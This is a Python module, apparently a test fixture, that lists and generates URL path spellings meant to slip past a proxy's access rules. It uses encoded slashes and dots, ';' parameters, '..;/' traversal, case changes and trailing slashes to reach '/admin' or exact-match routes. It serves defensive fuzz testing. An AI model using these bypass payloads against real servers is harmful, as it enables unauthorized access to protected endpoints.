"""Ways to write a path that servers read differently."""

from __future__ import annotations

import itertools
import random

GLUE = ["/", "x", "/x", "/..", "/.", ";", "%2f", "%5c", "\\", "%3b", "%252f", "%2e", "%253b", "//"]
"""Text between two names."""

FOUND = [
    # Parameters before decoding: servlet containers.
    "/open/x;%2fy/..;/..;/admin",
    "/open/x;%2fy/..;/../admin",
    "/open/x;y=%2fz/..;/..;/admin/users",
    "/open/..;/admin",
    "/open/%2e%2e;/admin",
    "/open/.%2e;/admin",
    "/admin/%2e%2e;/open",
    "/open/...;/admin",
    "/open;/../admin",
    "/admin;%2f..",
    "/admin;%5c..",
    "/admin;%252f..",
    "/admin;%2f../open",
    "/admin;%2f..%2fopen",
    "/admin;/..;/open",
    "/admin;x=1",
    "/;x/admin",
    "/x/..;/admin",
    # Dots and slashes that only some servers resolve.
    "/admin//../open",
    "/admin/../open",
    "/admin/../open/x",
    "/admin/x/../../open",
    "/admin/.%2e",
    "/admin/%2e%2e/open",
    "/admin/.%2e/open",
    "/admin/./../open",
    "/open/../admin",
    "/open//../../admin",
    "/open/%2e%2e/admin",
    "/open/.%2e/admin",
    "/open%2f..%2fadmin",
    "/open%2f%2e%2e%2fadmin",
    "/open%5c..%5cadmin",
    "/open\\..\\admin",
    "/./admin",
    "/%2e/admin",
    "//admin",
    "///admin",
    "//x/admin",
    "//x/../admin",
    "//open/admin",
    "/\\x/admin",
    "\\\\x/admin",
    "/x//admin",
    # Case.
    "/ADMIN",
    "/Admin/users",
    "/aDMIN/",
    "/open/../ADMIN",
    # Escapes, once and twice.
    "/%61dmin",
    "/%61%64%6d%69%6e/x",
    "/%2561dmin",
    "/%2fadmin",
    "/%252fadmin",
    "/%5cadmin",
    "/open%252f..%252fadmin",
    "/open/..%252f/admin",
    "/admin%2fusers",
    "/admin%5cusers",
    "/admin%00",
    "/admin%20",
    "/admin%23",
    "/admin%3fx",
    # The trailing slash, of exact paths.
    "/exact/",
    "/exact//",
    "/exact/.",
    "/exact/x/..",
    "/exact%2f",
    "/exact;x",
    "/exact;%2f",
    "/EXACT",
    "/Exact/",
    "/%65xact",
    "/exact/%2e",
    "/read/",
    "/READ",
    "/read;x",
]
"""Spellings that once reached a protected handler on some server, and similar ones."""


def spellings() -> list[str]:
    """All of them, each once: those found, every way to put two pieces of glue
    between two names or around one, and some with three. The same each time."""
    two = list(itertools.product(GLUE, repeat=2))
    more = random.Random(14)
    three = [[more.choice(GLUE) for _ in range(3)] for _ in range(40)]
    generated = [
        *(f"/open{a}{b}/admin" for a, b in two),
        *(f"/admin{a}{b}/open" for a, b in two),
        *(f"/admin{glue}" for glue in GLUE),
        *(f"/{glue}/admin" for glue in GLUE),
        *(f"/{more.choice(['open', 'x'])}{a}{b}{c}{more.choice(['admin', 'ADMIN'])}" for a, b, c in three),
        *(f"/{more.choice(['admin', 'ADMIN'])}{a}{b}{c}{more.choice(['open', 'x'])}" for a, b, c in three),
    ]
    # Envoy itself refuses a path that does not begin with a slash.
    return [path for path in dict.fromkeys([*FOUND, *generated]) if path.startswith("/")]
